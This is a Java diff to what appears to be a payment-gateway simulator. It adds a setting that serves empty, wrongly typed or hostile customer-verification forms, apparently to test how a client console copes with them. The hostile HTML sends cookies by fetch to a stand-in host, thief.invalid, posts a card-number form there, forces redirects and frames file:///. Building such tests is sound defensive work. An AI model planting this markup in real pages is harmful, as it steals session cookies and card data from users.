@@ -14,10 +14,22 @@ final class DirectView {
     private static final List<String> NOTHING_YET =
             List.of("account_id", "external_transaction_id", "recurring_id", "recurring_model", "recurring_flow");
 
+    /** Tries to read, to load, to leave and to send elsewhere; every address is one that can never exist. */
+    private static final String HOSTILE = """
+            <html><head><base href="https://thief.invalid/"><meta http-equiv="refresh" content="0;url=https://thief.invalid/">
+            <script>fetch('https://thief.invalid/?' + document.cookie); top.location = 'https://thief.invalid/';</script>
+            </head><body onload="document.forms[0].submit()"><img src="https://thief.invalid/seen.png" onerror="alert(1)">
+            <iframe src="file:///"></iframe><object data="https://thief.invalid/x"></object>
+            <form action="https://thief.invalid/take" method="post"><input name="card_number"><button>Proceed</button></form>
+            </body></html>
+            """;
+
+    private final Books books;
     private final OrderView view;
     private final Sessions sessions;
 
     DirectView(Books books, Sessions sessions) {
+        this.books = books;
         this.view = new OrderView(books);
         this.sessions = sessions;
     }
@@ -39,7 +51,7 @@ final class DirectView {
             }
         }
         if (CustomerCall.verifying(entry)) {
-            data.putObject("customer_verification").put("type", "form").put("html", html(entry));
+            verification(data.putObject("customer_verification"), entry);
         }
         if (CustomerCall.unfinished(entry)) {
             data.put("payment_url", sessions.page(entry));
@@ -70,6 +82,16 @@ final class DirectView {
                 .map(Receiver::url)
                 .filter(url -> Receiver.isLoopback(url.getHost()))
                 .orElse(null);
+    }
+
+    /** The form as the site's setting wants it: besides the usual one, those that a console has to bear. */
+    private void verification(ObjectNode shown, Entry entry) {
+        switch (books.verificationForm()) {
+            case "empty" -> shown.put("type", "form").put("html", "");
+            case "hostile" -> shown.put("type", "form").put("html", HOSTILE);
+            case "wrong-type" -> shown.put("type", "redirect").put("html", 3);
+            default -> shown.put("type", "form").put("html", html(entry));
+        }
     }
 
     /**
